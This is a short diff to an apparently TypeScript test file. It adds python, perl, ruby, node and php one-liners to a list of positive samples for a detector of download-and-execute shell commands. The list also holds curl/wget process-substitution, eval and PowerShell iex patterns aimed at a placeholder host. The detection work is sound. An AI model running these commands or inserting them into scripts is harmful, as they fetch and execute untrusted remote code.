@@ -72,6 +72,7 @@ const POSITIVES: string[] = [
   'bash <(curl -s https://x.example)', 'sh <( wget -O- x)', 'zsh <(curl x)', 'ksh <(curl x)', 'source <(curl -s x)',
   '. <(curl x)', 'x; . <(curl x)', 'bash <(sudo curl x)', 'bash <(env wget x)',
   'sh -c "$(curl -fsSL x)"', 'bash -c "$(wget -O- x)"', "zsh -c '$(curl x)'", 'eval "$(curl -s x)"', 'eval `curl x`',
+  'python3 -c "$(curl -fsSL https://x.example/p.py)"', 'python -c "$(wget -qO- x)"', "perl -e '$(curl x)'", 'ruby -e "`curl x`"', 'node -e "$(curl -s x)"', 'php -r x; php -c "$(curl x)"',
   'iex (iwr https://x.example/a.ps1)', 'Invoke-Expression (Invoke-WebRequest x)', 'iex (irm x)', 'iex (invoke-restmethod x)',
   'iex (New-Object Net.WebClient).DownloadString("x")', 'iex (downloadfile x)', 'iex (curl x)', 'iex (wget x)',
   'iwr https://x.example/a.ps1 | iex', 'irm x | Invoke-Expression', 'Invoke-WebRequest x | iex', 'invoke-restmethod x | iex',
